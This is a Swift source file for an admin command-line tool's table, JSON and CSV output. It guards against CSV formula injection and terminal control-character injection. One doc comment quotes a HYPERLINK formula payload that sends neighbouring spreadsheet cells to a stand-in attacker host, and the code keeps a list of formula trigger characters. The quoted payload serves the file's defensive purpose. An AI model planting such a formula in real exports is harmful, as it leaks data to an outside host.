import ArgumentParser
import AuthService
import AuthStore
import Foundation

/// `--format table|json|csv` for list commands.
///
/// The values come from strangers (user agents, addresses, request ids, usernames stored
/// under an older rule) and land in an admin's terminal or spreadsheet, so every format
/// renders them so that they cannot act there: CSV cells cannot start a formula, the table
/// shows control characters instead of sending them to the terminal, and JSON escapes them.
enum OutputFormat: String, ExpressibleByArgument, CaseIterable {
    case table, json, csv

    /// Renders rows under `columns`. JSON is one array of objects with the columns as keys;
    /// CSV has a header row and RFC 4180 quoting; a table is aligned for a terminal.
    /// - Parameter numericColumns: columns written as JSON numbers rather than strings, and
    ///   left as they are in CSV when they hold a number.
    func render(columns: [String], rows: [[String]], numericColumns: Set<String> = []) -> String {
        switch self {
        case .json:
            let objects = rows.map { row in
                "{"
                    + zip(columns, row).map { column, value in
                        "\(Self.jsonString(column)):\(numericColumns.contains(column) ? value : Self.jsonString(value))"
                    }.joined(separator: ",") + "}"
            }
            return "[" + objects.joined(separator: ",\n") + "]\n"
        case .csv:
            let header = columns.map { Self.csvField($0, numeric: false) }.joined(separator: ",")
            let lines = rows.map { row in
                zip(columns, row).map { Self.csvField($1, numeric: numericColumns.contains($0)) }
                    .joined(separator: ",")
            }
            return ([header] + lines).joined(separator: "\n") + "\n"
        case .table:
            let all = [columns.map { $0.uppercased() }] + rows.map { $0.map(Self.printable) }
            // Widths and padding count the characters printed (after `printable`), not UTF-16
            // units as Foundation's `padding(toLength:)` would.
            let widths = columns.indices.map { column in all.map { $0[column].count }.max() ?? 0 }
            return all.map { row in
                zip(row, widths).map { $0 + String(repeating: " ", count: $1 - $0.count) }
                    .joined(separator: "  ").trimmingTrailingSpaces()
            }.joined(separator: "\n") + "\n"
        }
    }

    // MARK: CSV

    /// Characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection):
    /// `=HYPERLINK("//evil.example/x?"&A1,"x")` in a user agent would otherwise send the
    /// neighbouring cells away when the admin opens the export.
    static let formulaTriggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// One CSV field. A text starting with a formula trigger gets a leading `'` (which
    /// spreadsheets take as "this is text") and is quoted, as OWASP advises; a number in a
    /// numeric column is left alone, so `count` and `id` stay numbers. Otherwise RFC 4180
    /// quoting: only fields with commas, quotes or line breaks are quoted.
    static func csvField(_ value: String, numeric: Bool) -> String {
        let isNumber = numeric && Int64(value) != nil
        if !isNumber, let first = value.unicodeScalars.first, formulaTriggers.contains(first) {
            return "\"'" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        }
        guard value.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return value }
        return "\"" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    // MARK: Table

    /// `value` with each control character (``ControlCharacters``) shown as `<U+XXXX>`: visible, so the admin sees
    /// that something was there and what, and harmless, so alignment and the terminal stay
    /// intact.
    static func printable(_ value: String) -> String {
        guard value.unicodeScalars.contains(where: ControlCharacters.contains) else { return value }
        var out = String.UnicodeScalarView()
        for scalar in value.unicodeScalars {
            if ControlCharacters.contains(scalar) {
                out.append(contentsOf: codePoint(scalar).unicodeScalars)
            } else {
                out.append(scalar)
            }
        }
        return String(out)
    }

    private static func codePoint(_ scalar: Unicode.Scalar) -> String {
        let hex = String(scalar.value, radix: 16, uppercase: true)
        return "<U+" + String(repeating: "0", count: max(0, 4 - hex.count)) + hex + ">"
    }

    // MARK: JSON

    /// A JSON string as the wire format writes it, with C1 and bidirectional controls also
    /// written as `\uXXXX` escapes (WireBody passes them through as UTF-8, which is valid
    /// JSON but reaches the terminal of whoever reads the output). The decoded value is the
    /// same text.
    static func jsonString(_ value: String) -> String {
        let quoted = WireBody.quoted(value)
        guard quoted.unicodeScalars.contains(where: ControlCharacters.contains) else { return quoted }
        var out = ""
        for scalar in quoted.unicodeScalars {
            // C0 controls are already escaped by WireBody; what is left here is C1, DEL and bidi.
            if ControlCharacters.contains(scalar) {
                let hex = String(scalar.value, radix: 16)
                out += "\\u" + String(repeating: "0", count: 4 - hex.count) + hex
            } else {
                out.unicodeScalars.append(scalar)
            }
        }
        return out
    }
}

extension String {
    fileprivate func trimmingTrailingSpaces() -> String {
        var text = self
        while text.last == " " { text.removeLast() }
        return text
    }
}
